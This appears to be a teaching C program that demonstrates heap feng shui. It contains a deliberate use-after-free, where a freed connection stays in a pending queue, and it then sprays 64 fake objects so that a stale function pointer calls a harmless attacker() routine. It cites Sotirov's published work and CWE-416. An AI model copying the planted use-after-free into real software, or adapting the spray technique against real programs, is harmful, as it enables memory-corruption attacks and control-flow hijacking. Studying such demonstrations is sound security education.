/* Heap feng shui: after a connection object is freed (a dangling pointer stays in the pending
 * queue) the attacker sprays many same-size objects, each a fake connection whose proto
 * pointer leads to attacker(); whichever lands in the freed slot wins.
 * Published: Sotirov, "Heap Feng Shui in JavaScript" (Black Hat Europe 2007); MITRE CWE-416.
 * Primitive: use after free read of an ops pointer after a spray -> control flow hijack. */
#include <string.h>
#include "common.h"

struct conn;
struct proto { void (*recv)(struct conn *, const char *); };
struct conn { const struct proto *proto; int fd; char peer[20]; };

static void tcp_recv(struct conn *c, const char *d) { printf("fd %d: %s\n", c->fd, d); }
static const struct proto tcp = {tcp_recv};
static void attacker(struct conn *c, const char *d) {
    (void)c, (void)d;
    printf("ATTACK SUCCEEDED: sprayed object reached attacker()\n");
}

int main(void) {
    test_init();
    printf("heap spray: 64 same-size fake connections after a free\n");
    struct conn *conns[8];
    for (int i = 0; i < 8; i++) {
        conns[i] = malloc(sizeof *conns[i]);
        *conns[i] = (struct conn){&tcp, i + 3, "10.0.0.1"};
    }
    struct conn *pending = conns[3];
    print_ptr("victim", pending);
    free(conns[3]); /* BUG: closed, still pending */
    static struct proto fake_proto = {attacker};
    void *spray[64];
    for (int i = 0; i < 64; i++) {
        struct conn fake = {&fake_proto, 0, "spray"};
        spray[i] = malloc(sizeof fake);
        memcpy(spray[i], &fake, sizeof fake);
    }
    pending->proto->recv(pending, "data");
    printf("attack failed %p\n", spray[0]);
    return 0;
}
